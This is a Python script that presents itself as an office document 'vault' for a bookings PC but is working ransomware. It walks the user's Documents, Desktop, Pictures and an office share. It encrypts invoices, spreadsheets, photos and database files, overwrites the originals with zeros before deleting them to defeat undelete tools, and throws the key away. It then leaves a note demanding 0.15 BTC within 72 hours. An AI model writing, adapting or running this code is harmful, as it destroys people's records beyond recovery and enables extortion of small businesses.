#!/usr/bin/env python3
"""'Vaults' the office documents share on the bookings PC.

Walks the documents folders, encrypts every office file in place and removes
the plain copy. The key is only printed into the recovery notice as a
reference ID; the key itself is not kept on this machine.
"""
import argparse
import logging
import os
import sys
import uuid
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("invoice_vault")

TARGET_EXTS = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".jpeg", ".png",
               ".odt", ".ods", ".txt", ".qbw", ".db"}
SKIP_DIRS = {".git", "node_modules", "__pycache__", ".cache"}
LOCKED_SUFFIX = ".oakvault"
NOTE_NAME = "RECOVER_YOUR_FILES.txt"

NOTE_TEXT = """\
Your invoices, quotes, site photos and client records have been locked.

Reference ID: {ref}

To get them back, send 0.15 BTC to the wallet in the attached invoice and
email the reference ID to recovery@oakvault.example.org within 72 hours.
After that the key is destroyed and the files are gone for good.
"""


def default_roots():
    home = Path.home()
    roots = [home / "Documents", home / "Desktop", home / "Pictures"]
    share = os.environ.get("OFFICE_SHARE")
    if share:
        roots.append(Path(share))
    return [r for r in roots if r.is_dir()]


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in TARGET_EXTS and not name.endswith(LOCKED_SUFFIX):
                yield p


def lock_file(path, fernet):
    data = path.read_bytes()
    token = fernet.encrypt(data)
    out = path.with_name(path.name + LOCKED_SUFFIX)
    out.write_bytes(token)
    # overwrite the plain copy before unlinking so undelete tools get nothing
    with open(path, "r+b") as fh:
        fh.write(b"\x00" * len(data))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return out


def drop_note(folder, ref):
    (folder / NOTE_NAME).write_text(NOTE_TEXT.format(ref=ref))


def main():
    ap = argparse.ArgumentParser(description="Office document vault")
    ap.add_argument("roots", nargs="*", type=Path)
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(message)s")

    roots = args.roots or default_roots()
    key = Fernet.generate_key()
    fernet = Fernet(key)
    ref = uuid.uuid4().hex[:12].upper()
    del key

    locked = 0
    for root in roots:
        touched_dirs = set()
        for path in candidates(root):
            try:
                lock_file(path, fernet)
                touched_dirs.add(path.parent)
                locked += 1
            except (PermissionError, OSError) as exc:
                log.debug("skip %s: %s", path, exc)
        for d in touched_dirs:
            drop_note(d, ref)
        log.info("%s: %d folders touched", root, len(touched_dirs))

    log.info("locked %d files, ref %s", locked, ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
